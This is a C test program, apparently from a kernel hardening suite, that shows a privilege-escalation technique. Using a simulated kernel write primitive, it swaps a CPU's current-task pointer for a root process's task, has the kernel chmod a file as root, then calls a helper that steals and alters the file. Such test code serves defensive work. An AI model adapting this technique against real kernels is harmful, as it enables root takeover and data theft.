// SPDX-License-Identifier: GPL-2.0-only
/*
 * Exchange the word of a CPU that says which task is the current one for a
 * program of root, have the kernel do something in its name, and let the next
 * change of tasks write the word again.
 */
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "common.h"

#define TRIES	20
#define YIELDS	1000

/* Without it, nothing else may run on this CPU for long. */
static pid_t start_other(void)
{
	pid_t pid = fork();

	if (pid < 0)
		die_errno("fork");
	if (!pid) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		for (;;)
			sched_yield();
	}
	return pid;
}

int main(int argc, char **argv)
{
	/* The other may be in another directory. */
	char *path = realpath(argc > 1 ? argv[1] : "", NULL);
	struct kpkeys_vuln_task mine, root;
	cpu_set_t here;
	pid_t other;
	int err = -1, try, i;

	if (!path)
		die_errno("realpath");
	CPU_ZERO(&here);
	CPU_SET(sched_getcpu(), &here);
	if (sched_setaffinity(0, sizeof(here), &here))
		die_errno("staying on a CPU");
	other = start_other();
	mine = vuln_task(getpid());
	root = vuln_task(getppid());
	/* A page fault would look for the page in the program of root. */
	chmod(path, 0666);

	/* If another takes the CPU in between, the word is right again in chmod(). */
	for (try = 0; err && try < TRIES; try++) {
		vuln_write(mine.current_task, root.task);
		err = chmod(path, 0666);
		/* The files of this task are those of the other until then. */
		for (i = 0; i < YIELDS; i++)
			sched_yield();
	}
	kill(other, SIGKILL);
	waitpid(other, NULL, 0);
	if (err)
		die("the kernel did not take us for root");
	steal_and_alter_as_root(path);
	return 0;
}
